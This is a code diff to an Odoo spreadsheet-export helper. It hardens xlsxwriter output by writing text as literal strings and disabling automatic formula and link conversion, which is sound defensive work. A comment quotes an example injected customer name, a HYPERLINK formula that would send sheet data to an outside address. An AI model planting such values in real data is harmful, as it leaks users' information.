@@ -8,6 +8,16 @@ import xlsxwriter
 from odoo import fields
 
 XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+# Text is written as text: xlsxwriter's write() would turn a customer named
+# '=HYPERLINK("http://...?"&C5, "Open")' into a live formula (sending the
+# sheet's data to that address) and a name starting with http:// into a
+# link. Totals are written with write_formula, numbers with write_number.
+WORKBOOK_OPTIONS = {
+    "in_memory": True,
+    "strings_to_formulas": False,
+    "strings_to_urls": False,
+    "strings_to_numbers": False,
+}
 
 
 class Workbook:
@@ -18,7 +28,7 @@ class Workbook:
     def __init__(self, env):
         self.env = env
         self.output = io.BytesIO()
-        self.book = xlsxwriter.Workbook(self.output, {"in_memory": True})
+        self.book = xlsxwriter.Workbook(self.output, WORKBOOK_OPTIONS)
         add = self.book.add_format
         self.title = add({"bold": True, "font_size": 14})
         self.note = add({"italic": True, "font_color": "#555555"})
@@ -49,8 +59,8 @@ class Workbook:
         """A sheet with its title on row 0, subtitle on row 1 and the column
         headers on row 3; data starts on row 4."""
         sheet = self.book.add_worksheet(name)
-        sheet.write(0, 0, title, self.title)
-        sheet.write(1, 0, subtitle, self.note)
+        sheet.write_string(0, 0, title, self.title)
+        sheet.write_string(1, 0, subtitle, self.note)
         sheet.set_landscape()
         sheet.set_paper(9)  # A4
         sheet.fit_to_pages(1, 0)
@@ -60,7 +70,7 @@ class Workbook:
         for col, width in enumerate(widths):
             sheet.set_column(col, col, width)
         for col, label in enumerate(columns):
-            sheet.write(3, col, label, self.head)
+            sheet.write_string(3, col, label, self.head)
         sheet.set_row(3, 32)
         return sheet
 
